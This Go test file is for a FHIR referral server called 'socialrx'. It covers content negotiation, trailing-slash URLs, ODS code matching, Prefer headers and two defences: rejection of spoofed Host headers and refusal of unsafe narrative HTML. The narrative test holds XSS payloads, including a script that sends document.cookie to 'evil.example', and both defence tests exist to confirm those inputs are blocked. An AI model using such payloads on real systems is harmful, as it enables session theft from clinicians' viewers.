package server_test

import (
	"encoding/json"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/socialrx/socialrx/fhir/fhirtest"
)

// FHIR REST as HAPI and real clients speak it (R4 http.html): the base with a trailing slash, content
// negotiation, absolute URLs on the configured base.

// TestTrailingSlashBase: POST [base]/ is the transaction endpoint and GET [base]/Task/ the Task search, as HAPI
// accepts them (fhir-kit-client and fhirclient send them so).
func TestTrailingSlashBase(t *testing.T) {
	t.Parallel()
	h := newHarness(t, fhirtest.NewValidator(t))
	body := readFile(t, referrals+"/museum-volunteering-bundle.json")
	r := h.do(http.MethodPost, "/fhir/", tokPCN, body)
	if r.status != http.StatusOK || r.json(t)["type"] != "transaction-response" {
		t.Fatalf("POST /fhir/: %d %s", r.status, r.body)
	}
	sr := srFromResponse(t, r)
	for _, path := range []string{"/fhir/Task/", "/fhir/ServiceRequest/", "/fhir/metadata/", "/fhir/ServiceRequest/" + sr["id"].(string) + "/"} {
		g := h.do(http.MethodGet, path, tokPCN, nil)
		if g.status != http.StatusOK {
			t.Errorf("GET %s: %d %s", path, g.status, g.body)
			continue
		}
		if m := g.json(t); path == "/fhir/Task/" && (m["type"] != "searchset" || m["total"] != float64(1)) {
			t.Errorf("GET %s: %s", path, g.body)
		}
	}
}

// TestContentNegotiation: socialrx speaks FHIR JSON only. XML (by Accept or _format) is 406 with an
// OperationOutcome; _format=json and application/json work, the latter answered as application/json.
func TestContentNegotiation(t *testing.T) {
	t.Parallel()
	h := newHarness(t, fhirtest.NewValidator(t))
	for _, tc := range []struct {
		path, accept string
		status       int
		ct           string
	}{
		{"/fhir/metadata", "application/fhir+xml", 406, "application/fhir+json"},
		{"/fhir/metadata", "application/xml, text/xml", 406, "application/fhir+json"},
		{"/fhir/metadata?_format=xml", "", 406, "application/fhir+json"},
		{"/fhir/metadata?_format=application/fhir%2Bxml", "", 406, "application/fhir+json"},
		{"/fhir/Task?_format=xml", "", 406, "application/fhir+json"},
		{"/fhir/metadata?_format=turtle", "", 406, "application/fhir+json"},
		{"/fhir/metadata", "application/fhir+json;q=0", 406, "application/fhir+json"},
		{"/fhir/metadata?_format=json", "application/fhir+xml", 200, "application/fhir+json"},
		{"/fhir/metadata?_format=application/fhir%2Bjson", "", 200, "application/fhir+json"},
		{"/fhir/metadata?_format=application/json", "", 200, "application/json"},
		{"/fhir/metadata", "application/json", 200, "application/json"},
		{"/fhir/Task", "application/json", 200, "application/json"},
		{"/fhir/Task?_format=json", "", 200, "application/fhir+json"},
		{"/fhir/metadata", "application/json, text/plain, */*", 200, "application/json"},
		{"/fhir/metadata", "application/fhir+xml, application/fhir+json;q=0.5", 200, "application/fhir+json"},
		{"/fhir/metadata", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", 200, "application/fhir+json"},
		{"/fhir/metadata", "", 200, "application/fhir+json"},
		{"/fhir/Task/nope", "application/json", 404, "application/json"},
	} {
		var hdr []string
		if tc.accept != "" {
			hdr = append(hdr, "Accept: "+tc.accept)
		}
		r := h.do(http.MethodGet, tc.path, tokGP, nil, hdr...)
		if r.status != tc.status || !strings.HasPrefix(r.header.Get("Content-Type"), tc.ct+";") {
			t.Errorf("GET %s Accept %q: %d %q, want %d %s\n%s", tc.path, tc.accept, r.status, r.header.Get("Content-Type"), tc.status, tc.ct, r.body)
			continue
		}
		m := r.json(t)
		if tc.status == 406 {
			if is := issues(t, r); len(is) != 1 || is[0].Code != "not-supported" || !strings.Contains(is[0].Diagnostics, "JSON") {
				t.Errorf("GET %s Accept %q: 406 must explain itself: %s", tc.path, tc.accept, r.body)
			}
			continue
		}
		if tc.status == 200 && m["resourceType"] == nil {
			t.Errorf("GET %s: not a FHIR resource: %s", tc.path, r.body)
		}
	}
	// A write asking for application/json gets its answer (and its errors) as application/json too.
	r := h.do(http.MethodPost, "/fhir/ServiceRequest", tokGP, readFile(t, referrals+"/walking-group-performer.json"), "Accept: application/json")
	if r.status != http.StatusCreated || !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") || r.json(t)["resourceType"] != "ServiceRequest" {
		t.Errorf("create with Accept application/json: %d %q", r.status, r.header.Get("Content-Type"))
	}
}

// TestAbsoluteURLsUseConfiguredBase: every absolute URL is built on the configured base; a request's Host and
// X-Forwarded-* headers never change it (a proxy or an attacker cannot make socialrx write links elsewhere).
func TestAbsoluteURLsUseConfiguredBase(t *testing.T) {
	t.Parallel()
	h := newHarness(t, fhirtest.NewValidator(t))
	spoof := []string{"X-Forwarded-Host: evil.example", "X-Forwarded-Proto: https", "Forwarded: host=evil.example;proto=https"}
	r := postFixtureWithHost(h, "evil.example", "walking-group-performer.json", spoof...)
	if r.status != http.StatusCreated {
		t.Fatalf("create: %d %s", r.status, r.body)
	}
	if loc := r.header.Get("Location"); !strings.HasPrefix(loc, h.url+"/fhir/ServiceRequest/") {
		t.Errorf("Location %q is not on the configured base %s", loc, h.url)
	}
	for _, path := range []string{"/fhir/Task", "/fhir/metadata", "/fhir/.well-known/smart-configuration"} {
		g := h.doWithHost(http.MethodGet, path, tokGP, "evil.example", spoof...)
		if g.status != http.StatusOK || strings.Contains(string(g.body), "evil.example") || !strings.Contains(string(g.body), h.url) {
			t.Errorf("GET %s with a foreign Host: %d %s", path, g.status, g.body)
		}
	}
}

// postFixtureWithHost posts a fixture with the request's Host set (as a client reaching socialrx by another
// name, or a misconfigured proxy, would send it).
func postFixtureWithHost(h *harness, host, name string, headers ...string) response {
	h.t.Helper()
	return h.doRequest(http.MethodPost, "/fhir/ServiceRequest", tokGP, readFile(h.t, referrals+"/"+name), host, headers...)
}

// doWithHost is do with the request's Host set.
func (h *harness) doWithHost(method, path, token, host string, headers ...string) response {
	h.t.Helper()
	return h.doRequest(method, path, token, nil, host, headers...)
}

// TestODSCodesAreCaseInsensitive: a referral whose requester's ODS code (and performer's) comes in lower case is
// stored under the practice's code and found by every search of its practice, in any case.
func TestODSCodesAreCaseInsensitive(t *testing.T) {
	t.Parallel()
	h := newHarness(t, fhirtest.NewValidator(t))
	body := strings.NewReplacer(`"A81001"`, `"a81001"`, `"XYZ01"`, `"xyz01"`).Replace(string(readFile(t, referrals+"/walking-group-performer.json")))
	r := h.do(http.MethodPost, "/fhir/ServiceRequest", tokGP, []byte(body))
	if r.status != http.StatusCreated {
		t.Fatalf("lower-case ODS referral: %d %s", r.status, r.body)
	}
	for _, q := range []string{
		"/fhir/Task",
		"/fhir/ServiceRequest",
		"/fhir/ServiceRequest?requester:identifier=" + odsSystemURL + "|a81001",
		"/fhir/Task?requester:identifier=" + odsSystemURL + "|A81001",
		"/fhir/Task?owner:identifier=" + odsSystemURL + "|xyz01",
		"/fhir/Task?owner=frome-walks",
	} {
		g := h.do(http.MethodGet, q, tokGP, nil)
		if g.status != http.StatusOK || g.json(t)["total"] != float64(1) || !strings.Contains(string(g.body), `"match"`) {
			t.Errorf("GET %s: %d %s; want the referral", q, g.status, g.body)
		}
	}
	// The PCN hub (practices A81001–A81004) sees it too; another practice does not.
	if g := h.do(http.MethodGet, "/fhir/Task", tokPCN, nil); g.json(t)["total"] != float64(1) {
		t.Errorf("PCN hub search: %s", g.body)
	}
	if g := h.do(http.MethodGet, "/fhir/Task", tokGP2, nil); g.json(t)["total"] != float64(0) {
		t.Errorf("another practice sees it: %s", g.body)
	}
}

// TestUnsafeNarrativeRefused: a ServiceRequest whose narrative could run script in a GP system's viewer is
// refused 400 naming ServiceRequest.text.div, and nothing is written.
func TestUnsafeNarrativeRefused(t *testing.T) {
	t.Parallel()
	h := newHarness(t, fhirtest.NewValidator(t))
	for _, div := range []string{
		`<div xmlns=\"http://www.w3.org/1999/xhtml\"><script>fetch('https://evil.example/'+document.cookie)</script>Referral</div>`,
		`<div xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"javascript:alert(1)\">details</a></div>`,
		`<div xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"alert(1)\"/></div>`,
	} {
		body := strings.Replace(string(readFile(t, referrals+"/walking-group-performer.json")), `"resourceType": "ServiceRequest",`,
			`"resourceType": "ServiceRequest", "text": {"status": "generated", "div": "`+div+`"},`, 1)
		r := h.do(http.MethodPost, "/fhir/ServiceRequest", tokGP, []byte(body))
		if r.status != http.StatusBadRequest || !hasExpression(issues(t, r), "ServiceRequest.text.div") {
			t.Errorf("unsafe narrative %s: %d %s; want 400 naming ServiceRequest.text.div", div, r.status, r.body)
		}
	}
	// The same referral with a plain narrative is accepted.
	body := strings.Replace(string(readFile(t, referrals+"/walking-group-performer.json")), `"resourceType": "ServiceRequest",`,
		`"resourceType": "ServiceRequest", "text": {"status": "generated", "div": "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Referral to <b>walking group</b></p></div>"},`, 1)
	if r := h.do(http.MethodPost, "/fhir/ServiceRequest", tokGP, []byte(body)); r.status != http.StatusCreated {
		t.Errorf("safe narrative: %d %s", r.status, r.body)
	}
	if n := h.countReferrals(); n != 1 {
		t.Errorf("%d referrals stored, want only the safe one", n)
	}
}

// TestPreferOnEveryWrite: Prefer return=minimal (no body, the headers), return=OperationOutcome (an
// informational OperationOutcome) and return=representation (the resource, the default) on every write:
// create, transaction, ServiceRequest revoke, Task update, Subscription create, re-activate and delete.
func TestPreferOnEveryWrite(t *testing.T) {
	t.Parallel()
	h := newHarness(t, fhirtest.NewValidator(t))
	walks := refer(h, tokGP, "walking-group-performer.json")
	museum := refer(h, tokPCN, "museum-volunteering-bundle.json")
	sub := createSubscription(t, h, tokGP, subscriptionBody(gpCriteria, "https://gp.example.org/hook", "id-only"))["id"].(string)
	subBody := h.do(http.MethodGet, "/fhir/Subscription/"+sub, tokGP, nil).body
	type write struct {
		name, method, path, token string
		body                      []byte
		headers                   []string
		status                    int
		resource                  string
	}
	patch := "Content-Type: application/json-patch+json"
	writes := func(i int) []write {
		v := strconv.Itoa(i + 1)
		return []write{
			{"Task patch", http.MethodPatch, "/fhir/Task/" + walks.task, tokWalks,
				[]byte(`[{"op": "add", "path": "/note/-", "value": {"text": "note ` + v + `"}}]`), []string{patch, `If-Match: W/"` + v + `"`}, 200, "Task"},
			{"Subscription re-activate", http.MethodPut, "/fhir/Subscription/" + sub, tokGP, []byte(strings.Replace(string(subBody), `"status":"active"`, `"status":"requested"`, 1)), nil, 200, "Subscription"},
		}
	}
	for i, prefer := range []string{"return=minimal", "return=OperationOutcome", "return=representation"} {
		for _, wr := range writes(i) {
			r := h.do(wr.method, wr.path, wr.token, wr.body, append(wr.headers, "Prefer: "+prefer)...)
			checkPrefer(t, wr.name, prefer, r, wr.status, wr.resource)
		}
	}
	// One-off writes, one per Prefer.
	checkPrefer(t, "revoke", "return=minimal", h.do(http.MethodPatch, "/fhir/ServiceRequest/"+walks.sr, tokGP,
		[]byte(`[{"op": "replace", "path": "/status", "value": "revoked"}]`), patch, "Prefer: return=minimal"), 200, "ServiceRequest")
	checkPrefer(t, "Subscription create", "return=minimal", h.do(http.MethodPost, "/fhir/Subscription", tokGP,
		subscriptionBody(gpCriteria, "https://gp.example.org/hook2", "id-only"), "Prefer: return=minimal"), 201, "Subscription")
	checkPrefer(t, "Subscription delete", "return=OperationOutcome", h.do(http.MethodDelete, "/fhir/Subscription/"+sub, tokGP, nil,
		"Prefer: return=OperationOutcome"), 200, "Subscription")
	checkPrefer(t, "Task update of another referral", "return=OperationOutcome", h.do(http.MethodPatch, "/fhir/Task/"+museum.task, tokMuseum,
		[]byte(`[{"op": "replace", "path": "/status", "value": "received"}]`), patch, `If-Match: W/"1"`, "Prefer: return=OperationOutcome"), 200, "Task")
	// A transaction with return=OperationOutcome: each entry's response carries an outcome, no resource.
	r := h.do(http.MethodPost, "/fhir", tokPCN, readFile(t, referrals+"/befriending-bundle-urgent.json"), "Prefer: return=OperationOutcome")
	var tx struct {
		Entry []struct {
			Resource json.RawMessage `json:"resource"`
			Response struct {
				Location string          `json:"location"`
				Outcome  json.RawMessage `json:"outcome"`
			} `json:"response"`
		} `json:"entry"`
	}
	if err := json.Unmarshal(r.body, &tx); err != nil || r.status != http.StatusOK {
		t.Fatalf("transaction: %d %s", r.status, short(r.body))
	}
	for i, e := range tx.Entry {
		if e.Resource != nil || !strings.Contains(string(e.Response.Outcome), `"severity":"information"`) {
			t.Errorf("transaction entry %d with return=OperationOutcome: resource %s, outcome %s", i, short(e.Resource), e.Response.Outcome)
		}
	}
}

// checkPrefer checks a write's answer against the Prefer header it was sent with.
func checkPrefer(t *testing.T, name, prefer string, r response, status int, resource string) {
	t.Helper()
	if r.status != status || r.header.Get("Location") == "" {
		t.Errorf("%s with %s: %d %s (Location %q)", name, prefer, r.status, short(r.body), r.header.Get("Location"))
		return
	}
	switch prefer {
	case "return=minimal":
		if len(r.body) != 0 {
			t.Errorf("%s with %s: a body %s", name, prefer, short(r.body))
		}
	case "return=OperationOutcome":
		if is := issues(t, r); len(is) != 1 || is[0].Severity != "information" || is[0].Diagnostics == "" {
			t.Errorf("%s with %s: %s", name, prefer, short(r.body))
		}
	default:
		if r.json(t)["resourceType"] != resource {
			t.Errorf("%s with %s: %s", name, prefer, short(r.body))
		}
	}
}
